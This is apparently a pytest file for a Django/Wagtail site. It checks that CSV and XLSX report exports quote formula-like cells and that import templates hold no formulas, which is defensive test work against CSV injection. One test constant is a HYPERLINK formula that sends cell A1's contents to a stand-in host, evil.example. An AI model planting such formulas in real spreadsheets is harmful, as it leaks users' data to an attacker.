"""Spreadsheet downloads keep a cell that looks like a formula as text (OWASP CSV injection).

A listing title is whatever an organization typed or imported; an operator who downloads a
report must not run it as a formula in Excel."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from listings.importing import import_template
from market.spreadsheets import csv_cell, is_formula_like
from tests.factories import AchievementFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("value", ["=1+1", "+86 27", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_csv_cell_quotes_what_a_spreadsheet_would_run(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["新材料", "027-87654321", "a=b", "", None, 5, -5])
def test_csv_cell_leaves_other_values_alone(value):
    assert csv_cell(value) == value
    assert not is_formula_like(value)


@pytest.fixture
def logged_formula_title(superuser, university):
    achievement = AchievementFactory(owner=university, title=FORMULA)
    log(instance=achievement, action="wagtail.edit", user=superuser)
    return achievement


def test_site_history_csv_export_quotes_a_formula_title(client, superuser, logged_formula_title):
    client.force_login(superuser)

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_site_history_xlsx_export_keeps_a_formula_title_as_text(
    client, superuser, logged_formula_title
):
    client.force_login(superuser)

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


@pytest.mark.parametrize("kind", ["achievement", "demand"])
def test_import_templates_hold_no_formula(kind):
    header = next(csv.reader(io.StringIO(import_template(kind, "csv").decode("utf-8-sig"))))
    assert not any(is_formula_like(cell) for cell in header)

    book = load_workbook(io.BytesIO(import_template(kind, "xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
